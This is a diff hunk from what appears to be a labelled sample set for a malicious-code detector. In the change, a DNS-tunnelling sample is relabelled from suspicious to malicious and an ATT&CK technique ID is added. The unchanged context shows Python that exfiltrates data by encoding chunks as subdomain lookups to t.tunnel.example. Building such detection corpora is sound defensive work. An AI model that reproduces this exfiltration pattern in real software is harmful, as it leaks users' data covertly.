@@ -92,8 +92,8 @@ for at in range(0, len(data), 56):
     try: socket.gethostbyname(f"{data[at:at + 56]}.{at:04x}.t.tunnel.example")
     except OSError: pass
 `,
-    shows: { trace_tunnels_through_names: ['T1071.004', 'T1048'] },
-    label: 'suspicious',
+    shows: { trace_tunnels_through_names: ['T1071.004', 'T1048', 'T1132.001'] },
+    label: 'malicious',
     tells: ['t.tunnel.example'],
     core: true,
   },
